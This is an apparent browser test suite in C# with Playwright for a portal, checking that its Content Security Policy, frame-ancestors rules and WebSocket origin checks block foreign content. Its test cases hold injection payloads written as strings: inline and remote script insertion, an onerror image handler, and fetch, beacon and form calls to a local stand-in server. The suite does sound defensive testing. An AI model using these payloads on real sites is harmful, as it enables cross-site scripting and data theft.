using D360Portal.Tests.Testing;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace D360Portal.Tests.Hosting;

/// <summary>What an attacker would do who got markup into a page, or a page around the portal: the browser refuses it.</summary>
public sealed class ForeignContentBrowserTests(DemoPortal demo, BrowserFixture browser) : IClassFixture<DemoPortal>, IAsyncLifetime
{
    private OtherServer _elsewhere = default!;

    public async ValueTask InitializeAsync() => _elsewhere = await OtherServer.StartAsync();

    public ValueTask DisposeAsync() => _elsewhere.DisposeAsync();

    [Theory]
    [InlineData("script-src-elem", "const s = document.createElement('script'); s.textContent = 'window.foreign = true'; document.body.append(s);")]
    [InlineData("script-src-elem", "const s = document.createElement('script'); s.src = '{elsewhere}/evil.js'; document.body.append(s);")]
    [InlineData("script-src-elem", "const s = document.createElement('script'); s.src = 'data:text/javascript,window.foreign=true'; document.body.append(s);")]
    [InlineData("script-src-attr", "const i = document.createElement('div'); i.innerHTML = '<img src=\"data:,\" onerror=\"window.foreign = true\">'; document.body.append(i);")]
    [InlineData("img-src", "new Image().src = '{elsewhere}/canary.png';")]
    [InlineData("connect-src", "fetch('{elsewhere}/canary', { mode: 'no-cors' }).catch(() => {});")]
    [InlineData("connect-src", "navigator.sendBeacon('{elsewhere}/canary', 'x');")]
    [InlineData("form-action", "document.body.insertAdjacentHTML('beforeend', '<form method=post action=\"{elsewhere}/canary\"></form>'); document.forms[document.forms.length - 1].submit();")]
    [InlineData("frame-src", "const f = document.createElement('iframe'); f.src = '{elsewhere}/'; document.body.append(f);")]
    [InlineData("style-src-elem", "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '{elsewhere}/evil.css'; document.head.append(l);")]
    [InlineData("object-src", "const o = document.createElement('object'); o.data = '{elsewhere}/evil.swf'; document.body.append(o);")]
    [InlineData("base-uri", "const b = document.createElement('base'); b.href = '{elsewhere}/'; document.querySelector('base').remove(); document.head.append(b);")]
    public async Task What_is_injected_is_refused(string directive, string attack)
    {
        var page = await OpenAsync(demo.Portal.Address);
        await page.GotoAsync("/sign-in");
        await page.EvaluateAsync("() => { window.refused = []; addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective)); }");

        await page.EvaluateAsync("() => {" + attack.Replace("{elsewhere}", Elsewhere, StringComparison.Ordinal) + "}");

        await page.WaitForFunctionAsync("directive => refused.includes(directive)", directive);
        Assert.True(await page.EvaluateAsync<bool>("() => window.foreign === undefined"));
        Assert.Empty(_elsewhere.Asked);
        Assert.StartsWith(demo.Portal.Address.AbsoluteUri, page.Url, StringComparison.Ordinal);
        await page.Context.CloseAsync();
    }

    [Theory]
    [InlineData("/sign-in")]
    [InlineData("/org")]
    [InlineData("/nowhere")]
    [InlineData("/theme.js")]
    [InlineData("/_org/login")]
    public async Task No_page_is_shown_within_another_s(string path)
    {
        _elsewhere.Page = $"<!DOCTYPE html><title>Elsewhere</title><iframe src=\"{new Uri(demo.Portal.Address, path)}\"></iframe>";
        var page = await OpenAsync(_elsewhere.Address);
        var refused = new TaskCompletionSource<string>(TaskCreationOptions.RunContinuationsAsynchronously);
        page.Console += (_, message) =>
        {
            if (message.Type == "error" && (message.Text.Contains("frame-ancestors", StringComparison.Ordinal) || message.Text.Contains("X-Frame-Options", StringComparison.Ordinal)))
            {
                refused.TrySetResult(message.Text);
            }
        };

        await page.GotoAsync("/");

        await refused.Task.WaitAsync(Patience.Long, TestContext.Current.CancellationToken);
        await page.Context.CloseAsync();
    }

    [Fact]
    public async Task A_foreign_page_opens_no_circuit()
    {
        _elsewhere.Page = "<!DOCTYPE html><title>Elsewhere</title>";
        var page = await OpenAsync(_elsewhere.Address);
        await page.GotoAsync("/");

        var ended = await page.EvaluateAsync<string>(
            "address => new Promise(end => { const s = new WebSocket(address); s.onopen = () => end('open'); s.onerror = () => end('refused'); })",
            new UriBuilder(new Uri(demo.Portal.Address, "/_blazor")) { Scheme = "ws" }.Uri.AbsoluteUri);

        Assert.Equal("refused", ended);
        await page.Context.CloseAsync();
    }

    [Fact]
    public async Task A_sign_in_at_another_origin_leads_there_and_back()
    {
        var address = new Uri($"http://localhost:{FreePort.Next()}");
        await using var org = await LoopbackOrg.StartAsync(address);
        await using var portal = await RunningPortal.StartAsync(new RunningPortal.Setup { Address = address, Settings = org.Settings("acme") });
        var page = await OpenAsync(address);
        await page.GotoAsync("/org");

        await page.GetByRole(AriaRole.Link, new() { Name = "Sign in to acme" }).ClickAsync();
        await page.LogInAndAllowAsync();

        await Expect(page.GetByRole(AriaRole.Heading, new() { Name = "Org", Exact = true })).ToBeVisibleAsync();
        await page.Context.CloseAsync();
    }

    private string Elsewhere => _elsewhere.Address.GetLeftPart(UriPartial.Authority);

    private async Task<IPage> OpenAsync(Uri address)
    {
        var page = await browser.OpenAsync(address);
        return page;
    }
}
